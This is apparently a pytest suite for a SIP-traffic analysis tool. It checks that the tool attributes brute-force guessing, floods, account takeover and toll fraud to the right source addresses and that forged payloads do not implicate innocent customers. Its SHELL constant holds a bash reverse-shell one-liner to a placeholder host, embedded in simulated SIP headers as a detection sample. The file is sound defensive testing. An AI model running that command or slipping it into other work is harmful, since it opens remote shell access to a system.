"""Who is accused and who is not: payload and address are judged apart, and who got in comes first."""

from __future__ import annotations

import csv
import io
from datetime import UTC
from pathlib import Path

import pytest

from sipsieve.decision_log.record import Recorder
from sipsieve_analysis.analysis import analyze
from sipsieve_analysis.events import Store
from sipsieve_analysis.intake import Collector
from sipsieve_analysis.render import table
from sipsieve_analysis.report import Report, as_json
from worlds import plain
from worlds.people import PHONES, call, register
from worlds.world import HOUR, START, World

SHELL = '"bash -i >& /dev/tcp/198.51.100.99/3456 0>&1" <sip:a@192.0.2.10>;tag=1'
PHONE, ATTACKER, STRANGER = "203.0.113.5", "203.0.113.66", "203.0.113.77"


def read(tmp_path: Path, lines: World | list[bytes]) -> Report:
    path = tmp_path / "decisions.jsonl"
    if isinstance(lines, World):
        lines.write(path)
    else:
        path.write_bytes(b"".join(lines))
    work = tmp_path / "work"
    work.mkdir()
    store = Store(work)
    try:
        collector = Collector(store, work, UTC)
        collector.add(path)
        return analyze(store, collector.intake)
    finally:
        store.close()


def customer(world: World, ip: str = PHONE, transport: str = "udp") -> None:
    """A phone that is let in and calls."""
    register(world, ip, "1001", PHONES[0], 5060, START, START + 6 * HOUR, 1800)
    call(world, START + HOUR, ip, 5060, PHONES[0], "1001", "0301234567")


def accused(report: Report) -> set[str]:
    return {ip for actor in report.actors if actor.rank.tier != "low" for ip in actor.addresses}


def guess(world: World, ip: str, user: str, time: float, status: int = 403, agent: str = "", n: int = 0) -> None:
    call_id = f"guess-{n}-{time}@{ip}"
    world.send(time, ip, "REGISTER", user=user, agent=agent, call_id=call_id, status=401)
    world.send(
        time + 0.1, ip, "REGISTER", user=user, agent=agent, call_id=call_id, cseq=2, status=status, authorization=user
    )


def test_a_forged_payload_does_not_frame_the_customer_whose_address_it_names(tmp_path: Path) -> None:
    world = World(1)
    customer(world)
    world.send(START + 2 * HOUR, PHONE, "INVITE", user="100", agent=PHONES[0], from_=SHELL, status=200)
    report = read(tmp_path, world)
    first = report.actors[0]
    assert first.rank.tier == "immediate"
    assert (first.addresses, first.victims) == ([], [PHONE])
    assert "don't ban" in first.rank.action
    assert accused(report) == set()
    rows = list(csv.reader(io.StringIO(table.write(report))))
    assert "198.51.100.99:3456" in {row[1] for row in rows}
    assert PHONE not in {row[1] for row in rows}
    assert not any(PHONE in campaign["sources"] for campaign in as_json(report)["campaigns"])


def test_a_payload_over_a_connection_is_the_address_s_own(tmp_path: Path) -> None:
    world = World(2)
    customer(world)
    world.send(START + 2 * HOUR, PHONE, "INVITE", user="100", agent="x", from_=SHELL, status=404, transport="tls")
    assert accused(read(tmp_path, world)) == {PHONE}


def test_forged_guesses_and_floods_do_not_frame_it_either(tmp_path: Path) -> None:
    world = World(3)
    customer(world)
    for n in range(200):
        world.send(START + HOUR + n * 0.1, PHONE, "REGISTER", user=str(1000 + n), agent="friendly-scanner", status=401)
        world.send(START + 3 * HOUR + n * 0.1, PHONE, "INVITE", user="100", agent="other", status=404)
    assert accused(read(tmp_path, world)) == set()


def test_one_valid_registration_does_not_clear_a_reverse_shell(tmp_path: Path) -> None:
    world = World(4)
    guess(world, ATTACKER, "1001", START, 200)
    for n in range(3):
        world.send(START + 60 + n, ATTACKER, "INVITE", user="100", agent="x", from_=SHELL, status=404)
    first = read(tmp_path, world).actors[0]
    assert (first.rank.tier, first.addresses) == ("immediate", [ATTACKER])


@pytest.mark.parametrize("method", ["INVITE", "REGISTER", "OPTIONS"])
def test_another_name_in_each_message_clears_nobody(method: str, tmp_path: Path) -> None:
    world = World(5)
    for n in range(600):
        world.send(
            START + n * 0.05,
            ATTACKER,
            method,
            user="100",
            agent=f"agent-{n}",
            status=401 if method == "REGISTER" else 404,
        )
    report = read(tmp_path, world)
    assert accused(report) == {ATTACKER}
    assert not report.actors[0].spoofed
    assert ATTACKER in {s.indicator.value for s in report.indicators if s.indicator.kind == "source"}


def test_the_flood_over_ten_ports_is_one_sender_s_whatever_it_is_called(tmp_path: Path) -> None:
    world = World(6)
    for n in range(46):
        world.send(START + n * 0.05, ATTACKER, "INVITE", port=5060 + n % 10, user="100", agent=f"agent-{n}",
                   change=(b"Via: SIP/2.0/UDP ", b"Via: SIP/2.0/UDP ;"))  # fmt: skip
    report = read(tmp_path, world)
    assert accused(report) == {ATTACKER}
    assert "flood" in {str(c.type) for c in report.actors[0].campaigns}


def test_who_guessed_a_password_comes_first(tmp_path: Path) -> None:
    world = World(7)
    customer(world)
    for n in range(200):
        guess(world, ATTACKER, "1002", START + n, agent="tool", n=n)
    guess(world, ATTACKER, "1002", START + 201, 200, agent="tool")
    register(world, ATTACKER, "1002", "tool", 5060, START + 300, START + HOUR, 600)
    for n in range(60):
        call(world, START + 400 + 20 * n, ATTACKER, 5060, "tool", "1002", f"0025261{1000000 + n}")
    world.send(START, STRANGER, "INVITE", user="100", from_=SHELL, status=404)
    report = read(tmp_path, world)
    first = report.actors[0]
    assert (first.addresses, first.rank.tier) == ([ATTACKER], "immediate")
    kinds = {str(c.type): c for c in first.campaigns}
    assert kinds["account_takeover"].targets == ["1002"]
    assert kinds["account_takeover"].succeeded
    assert "toll_fraud" in kinds
    assert STRANGER in report.actors[1].addresses


def test_a_stolen_account_s_calls_are_fraud(tmp_path: Path) -> None:
    world = World(8)
    customer(world)
    register(world, ATTACKER, "1001", PHONES[1], 5060, START + 2 * HOUR, START + 5 * HOUR, 900)
    for n in range(300):
        call(
            world,
            START + 2 * HOUR + 30 * n,
            ATTACKER,
            5060,
            PHONES[1],
            "1001",
            f"00882{world.random.randint(10**7, 10**8)}",
        )
    report = read(tmp_path, world)
    assert accused(report) == {ATTACKER}
    assert (report.actors[0].rank.tier, str(report.actors[0].campaigns[0].type)) == ("immediate", "toll_fraud")


def test_a_phone_whose_password_was_mended_took_nothing_over(tmp_path: Path) -> None:
    world = World(9)
    for n in range(200):
        guess(world, PHONE, "1001", START + 60 * n, agent=PHONES[0], n=n)
    register(world, PHONE, "1001", PHONES[0], 5060, START + 5 * HOUR, START + 9 * HOUR, 1800)
    assert accused(read(tmp_path, world)) == set()


def test_a_403_to_credentials_is_a_refused_login(tmp_path: Path) -> None:
    world = World(10)
    for n in range(100):
        guess(world, ATTACKER, "1002", START + n, 403, n=n)
    report = read(tmp_path, world)
    assert [str(c.type) for c in report.actors[0].campaigns] == ["brute_force"]
    assert "none accepted" in report.actors[0].campaigns[0].why


def test_without_answers_nothing_is_called_refused(tmp_path: Path) -> None:
    world = World(11, with_replies=False)
    for n in range(100):
        guess(world, ATTACKER, "1002", START + n, n=n)
    for n in range(40):
        world.send(START + n, STRANGER, "REGISTER", user=str(2000 + n), agent="tool")
    report = read(tmp_path, world)
    assert accused(report) == {ATTACKER, STRANGER}
    for campaign in report.campaigns:
        assert "none" not in campaign.why
    assert any("no answers" in text for text in report.blind)


def test_counts_alone_show_guessing_and_floods_and_say_what_they_can_not(tmp_path: Path) -> None:
    recorder = Recorder("0123456789ab", "0123456789ab", "enforce")
    lines = []
    for n in range(60):
        at = START + 10 * n
        lines.append(recorder.summary(ATTACKER, "REGISTER", "allow", 60, at, at + 9, at + 10))
        lines.append(recorder.summary(STRANGER, "INVITE", "allow", 100, at, at + 9, at + 10))
        lines.append(recorder.summary(PHONE, "REGISTER", "allow", 2, at, at + 9, at + 10))
        lines.append(recorder.summary(PHONE, "INVITE", "allow", 1, at, at + 9, at + 10))
    report = read(tmp_path, lines)
    kinds = {actor.addresses[0]: [str(c.type) for c in actor.campaigns] for actor in report.actors if actor.addresses}
    assert kinds[ATTACKER] == ["brute_force"]
    assert kinds[STRANGER] == ["flood"]
    assert accused(report) == {ATTACKER, STRANGER}
    assert any("only counted" in text for text in report.blind)


def test_an_indicator_is_counted_once_with_its_own_time(tmp_path: Path) -> None:
    world = World(12)
    for n in range(50):
        world.send(START + n * 60, ATTACKER, "OPTIONS", user=str(n), agent="x", status=404)
    world.send(START + HOUR, ATTACKER, "INVITE", user="100", from_=SHELL, status=404)
    world.send(START + HOUR + 5, ATTACKER, "INVITE", user="100", from_=SHELL, status=404)
    found = {s.indicator.value: s for s in read(tmp_path, world).indicators}["198.51.100.99:3456"]
    assert found.messages == 2
    assert found.last_us - found.first_us == 5_000_000


@pytest.mark.parametrize("pairs", [True, False])
def test_phones_that_all_register_at_once_are_no_forged_flood_in_a_log_without_credentials(
    tmp_path: Path, pairs: bool
) -> None:
    world = World(4)
    for n in range(40):
        for cseq in (1, 2):
            call_id = f"{n}" if pairs else f"{n}-{cseq}"
            world.send(
                START + n + cseq / 9,
                f"203.0.{n}.9",
                "REGISTER",
                user=f"2{n:02d}",
                agent=PHONES[0],
                call_id=call_id,
                cseq=cseq if pairs else 1,
            )
    path = plain.write(world, tmp_path / "log")
    work = tmp_path / "work"
    work.mkdir()
    store = Store(work)
    try:
        collector = Collector(store, work, UTC, year=2026)
        collector.add(path)
        report = analyze(store, collector.intake)
    finally:
        store.close()
    assert report.messages == 80
    # Two words under two Call-IDs are what whoever forges addresses can send, and are told of no owner.
    assert any(campaign.type == "spoofed_flood" for actor in report.actors for campaign in actor.campaigns) is not pairs
    assert not accused(report) or not pairs
